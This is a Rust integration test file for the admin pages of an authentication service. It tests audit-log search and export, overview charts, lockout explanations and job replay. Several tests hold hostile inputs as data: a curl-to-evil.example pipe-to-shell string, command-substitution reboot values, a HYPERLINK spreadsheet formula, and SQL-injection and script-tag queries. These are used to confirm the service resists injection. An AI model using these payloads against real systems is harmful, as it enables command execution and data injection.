//! Administrators read the audit log, the overview and why someone could not log in.

use crate::harness::{
    Client, Engine, PASSWORD, Reply, TestApp, act, administrator, eventually, first_column, id_of, someone_with,
};
use doorward::domain::directory::audit::AuditQuery;
use doorward::domain::directory::audit_export::{AuditFormat, export};
use doorward::domain::hourly_counts;
use doorward::model::principal::Operation;
use doorward::model::roles::PlatformRole;
use reqwest::Method;
use serde_json::Value;

both_engines![audit_log_is_searched_by_person_actor_and_kind];
one_engine![
    overview_is_a_page_of_figures_and_charts,
    overview_counts_and_says_what_is_to_be_set,
    audit_log_is_downloaded_as_csv_and_ndjson,
    command_line_has_nothing_that_a_link_says,
    export_ends_with_the_role_and_begins_for_no_other_host,
    refused_changes_of_auditors_are_audited,
    person_page_says_why_they_could_not_log_in,
    replay_of_all_failed_events_is_a_job_that_shows_its_progress,
    hostile_queries_find_nothing_and_break_nothing
];

const REASON: (&str, &str) = ("reason", "asked by phone");

async fn with_admin(engine: Engine) -> (TestApp, Client) {
    let app = engine.app().await;
    let admin = someone_with(&app, "admin").await;
    (app, admin)
}

/// What the page says of these charts: the bare number over each.
fn total_of(page: &Reply, id: &str) -> String {
    let text = page.text();
    let chart = text.split(&format!("<h3 id=\"{id}\">")).nth(1).unwrap_or_else(|| panic!("no {id}: {page}"));
    chart.split("<p>").nth(1).unwrap().split("</p>").next().unwrap().to_owned()
}

async fn overview_is_a_page_of_figures_and_charts(engine: Engine) {
    let app = engine.prepare().await.without_background().start().await;
    someone_with(&app, "monitor").await.get("/auth/admin").await.snapshot("admin/overview");
}

async fn overview_counts_and_says_what_is_to_be_set(engine: Engine) {
    let (app, admin) = with_admin(engine).await;
    app.anonymous().log_in("admin@example.com", "wrong password").await.expect(401);
    let page = admin.get("/auth/admin").await.expect(200);
    for code in ["DW-080", "DW-081", "DW-082", "DW-083"] {
        assert!(page.text().contains(&format!("<code>{code}</code>")), "{code}: {page}");
    }
    let counted = async || {
        let page = admin.get("/auth/admin").await.expect(200);
        let totals = ["day-signups", "week-signups", "day-login-failures"].map(|id| total_of(&page, id));
        Some(page).filter(|_| totals == ["1", "1", "1"])
    };
    hourly_counts::write(&app.app).await.unwrap();
    let page = eventually("the counts of this hour", counted).await;
    let table =
        page.text().split("<h3 id=\"day-signups\">").nth(1).unwrap().split("</table>").next().unwrap().to_owned();
    assert_eq!(table.matches("<tr><th scope=\"row\">").count(), 24, "{table}");
    assert!(table.contains("<td>1</td></tr>") && table.contains("<td>0</td></tr>"), "{table}");
}

async fn audit_log_is_searched_by_person_actor_and_kind(engine: Engine) {
    let (app, admin) = with_admin(engine).await;
    app.sign_up("ada@example.com").await;
    let ada = id_of(&app, "ada@example.com").await;
    act(&admin, &format!("/auth/admin/people/{ada}/disable"), &[REASON]).await.expect(303);
    let kinds = async |query: &str| first_column(&admin.get(&format!("/auth/admin/audit{query}")).await.expect(200));
    let about_ada = kinds(&format!("?query={ada}")).await;
    assert_eq!(about_ada.first().map(String::as_str), Some("Account disabled"));
    assert_eq!(kinds("?query=ADA%40example.com").await, about_ada);
    assert_eq!(kinds("?query=ada").await, about_ada);
    assert_eq!(kinds("?kind=account_disabled").await, ["Account disabled"]);
    // What administrators did is found by them too.
    assert!(kinds("?query=admin%40example.com").await.contains(&"Account disabled".to_owned()));
    assert!(kinds("?query=operator").await.is_empty());
    assert!(kinds("?since=2999-01-01").await.is_empty());
    assert_eq!(kinds("?since=2000-01-01&until=2999-01-01").await, kinds("").await);
    let text = admin.get("/auth/admin/audit?kind=account_disabled").await.text();
    assert!(text.contains("<bdi>asked by phone</bdi>"), "{text}");
    assert!(text.contains("<code>doorward --json user audit --kind account_disabled --all</code>"), "{text}");
}

async fn audit_log_is_downloaded_as_csv_and_ndjson(engine: Engine) {
    let (app, admin) = with_admin(engine).await;
    app.sign_up("ada@example.com").await;
    let ada = id_of(&app, "ada@example.com").await;
    let formula = ("reason", "=HYPERLINK(\"https://evil.example\")");
    act(&admin, &format!("/auth/admin/people/{ada}/disable"), &[formula]).await.expect(303);
    let auditor = someone_with(&app, "auditor").await;
    let lines = auditor.get("/auth/admin/audit/export?format=ndjson&kind=account_disabled").await.expect(200);
    assert_eq!(lines.header("content-disposition"), Some("attachment; filename=\"audit-log.ndjson\""));
    let entry: Value = serde_json::from_str(lines.text().trim()).unwrap();
    assert_eq!((&entry["kind"], &entry["user_id"]), (&"account_disabled".into(), &ada.as_str().into()));
    assert_eq!(entry["fields"]["reason"], "=HYPERLINK(\"https://evil.example\")");
    let csv = auditor.get("/auth/admin/audit/export?format=csv&kind=account_disabled").await.expect(200);
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
    let text = csv.text();
    let (head, row) = text.split_once("\r\n").unwrap();
    assert!(head.starts_with("id,at,user_id,kind,actor,") && head.ends_with(",subject,fields"), "{head}");
    assert!(row.contains(&format!(",{ada},account_disabled,user,")), "{row}");
    // A download leaves its trace.
    let recorded = "SELECT count(*) FROM audit WHERE kind = 'audit_exported'";
    assert_eq!(app.database().count(recorded).await, 2);
    auditor.get("/auth/admin/audit/export?format=xml").await.snapshot("admin/export_refused");
    auditor.get("/auth/admin/audit?kind=audit_exported").await.snapshot("admin/audit");
    app.anonymous().get("/auth/admin/audit").await.snapshot("admin/audit_logged_out");
    auditor.get("/auth/admin/audit/export?format=csv&kind=passkey_added").await.snapshot("admin/export_done");
}

async fn command_line_has_nothing_that_a_link_says(engine: Engine) {
    let (_app, admin) = with_admin(engine).await;
    for query in ["key:x;curl+evil.example|sh+%23", "key:$(reboot)", "operator;reboot", "`reboot`"] {
        let text = admin.get(&format!("/auth/admin/audit?query={query}")).await.expect(200).text();
        let command = text.split("<p class=\"hint command\">").nth(1).unwrap().split("</p>").next().unwrap();
        assert!(!command.contains("curl") && !command.contains("reboot"), "{command}");
    }
    let text = admin.get("/auth/admin/audit?query=key:billing").await.expect(200).text();
    assert!(text.contains("<code>doorward --json user audit key:billing --all</code>"), "{text}");
}

async fn export_ends_with_the_role_and_begins_for_no_other_host(engine: Engine) {
    let (app, admin) = with_admin(engine).await;
    let path = "/auth/admin/audit/export?format=csv";
    let from = |site: &'static str| admin.get(path).header("sec-fetch-mode", "navigate").header("sec-fetch-site", site);
    for site in ["cross-site", "same-site", "another word"] {
        from(site).await.expect(403);
    }
    from("same-origin").also_header("sec-fetch-site", "same-site").await.expect(403);
    admin.get(path).header("sec-purpose", "prefetch").await.expect(403);
    admin.call(Method::HEAD, path).await.expect(403);
    let exports = "SELECT count(*) FROM audit WHERE kind = 'audit_exported'";
    assert_eq!(app.database().count(exports).await, 0);
    for site in ["same-origin", "none"] {
        from(site).await.expect(200);
    }
    assert_eq!(app.database().count(exports).await, 2);
    let by = administrator(&app, PlatformRole::Auditor, "").await;
    let mut export = export(&app.app, &by, AuditQuery::default(), AuditFormat::Ndjson).await.unwrap();
    app.database().execute("UPDATE users SET roles = '' WHERE email = 'auditor@example.com'").await;
    // What was read before is written; nothing more is read.
    let mut conn = app.app.store.read(&by, Operation::ReadActivity).await;
    assert!(conn.as_mut().is_err());
    assert!(export.next_chunk().await.unwrap().is_some());
}

async fn refused_changes_of_auditors_are_audited(engine: Engine) {
    let (app, _) = with_admin(engine).await;
    let auditor = someone_with(&app, "auditor").await;
    let nobody = "/auth/admin/people/0198c0de-0000-7000-8000-000000000000/delete";
    for _ in 0..3 {
        auditor.post_form(nobody, &[REASON]).await.expect(403);
    }
    auditor.get(nobody).await.expect(403);
    let recorded = "SELECT fields FROM audit WHERE kind = 'admin_refused' AND times = 3";
    let entry = async || app.database().texts(recorded).await.pop();
    let fields: Value = serde_json::from_str(&eventually("the entry", entry).await).unwrap();
    assert_eq!(fields["path"], "/auth/admin/people/{id}/delete");
}

async fn person_page_says_why_they_could_not_log_in(engine: Engine) {
    let (app, admin) = with_admin(engine).await;
    app.sign_up("ada@example.com").await;
    let page = format!("/auth/admin/people/{}", id_of(&app, "ada@example.com").await);
    assert!(admin.get(&page).await.text().contains("Yes. Nothing blocks a login."));
    let stranger = app.anonymous();
    while stranger.log_in("ada", "wrong password").await.status != 429 {}
    let limited = async || {
        let text = admin.get(&page).await.text();
        Some(text).filter(|text| {
            text.contains("Logins from this address are delayed") && text.contains("Login refused after too many")
        })
    };
    let text = eventually("what stands in the way", limited).await;
    assert!(text.contains("Wait until then, or unlock the login."), "{text}");
    act(&admin, &format!("{page}/unlock"), &[REASON]).await.expect(303);
    assert!(admin.get(&page).await.text().contains("Yes. Nothing blocks a login."));
    app.anonymous().log_in("ada", PASSWORD).await.expect(303);
    act(&admin, &format!("{page}/disable"), &[REASON]).await.expect(303);
    assert!(admin.get(&page).await.text().contains("Enable the account, if they may log in again."));
}

async fn replay_of_all_failed_events_is_a_job_that_shows_its_progress(engine: Engine) {
    let (app, admin) = with_admin(engine).await;
    let auditor = someone_with(&app, "auditor").await;
    let path = "/auth/admin/deliveries/replay";
    admin.get(path).await.snapshot("admin/replay_all_form");
    auditor.get(path).await.snapshot("admin/replay_all_form_refused");
    auditor.post_form(path, &[REASON]).await.snapshot("admin/replay_all_refused");
    for (name, value) in [("channel", "mail"), ("kind", "user.renamed"), ("since", "yesterday")] {
        act(&admin, path, &[(name, value), REASON]).await.expect(422);
    }
    let begun = act(&admin, path, &[("channel", "webhook"), ("until", "2026-11-01"), REASON]).await;
    let job = begun.location().to_owned();
    begun.snapshot("admin/replay_all_done");
    let done = async || Some(auditor.get(&job).await.expect(200)).filter(|page| !page.text().contains("http-equiv"));
    eventually("the job is done", done).await.snapshot("admin/job");
    admin.get("/auth/admin/jobs/0198c0de-0000-7000-8000-000000000000").await.snapshot("admin/job_unknown");
    assert_eq!(app.database().count("SELECT count(*) FROM audit WHERE kind = 'deliveries_replayed'").await, 1);
}

async fn hostile_queries_find_nothing_and_break_nothing(engine: Engine) {
    let (_app, admin) = with_admin(engine).await;
    let long = "x".repeat(10_000);
    for text in ["%25", "_", "%27", "%E2%80%AE", "%27%20OR%20%271%27=%271", "%3Cscript%3E", &long] {
        for list in ["people", "audit"] {
            let page = admin.get(&format!("/auth/admin/{list}?query={text}")).await;
            assert!(page.status == 200 || (text.len() > 9_000 && page.status == 413), "{list} {text}: {}", page.status);
            assert!(first_column(&page).is_empty(), "{list} {text}: {page}");
        }
    }
    for query in
        ["state=none&role=king", "query=%00", "query=a%00b", "after=%00", "after=1-2-3", "since=%00&until=x&kind=%27"]
    {
        admin.get(&format!("/auth/admin/people?{query}")).await.expect(200);
        admin.get(&format!("/auth/admin/audit?{query}")).await.expect(200);
    }
}
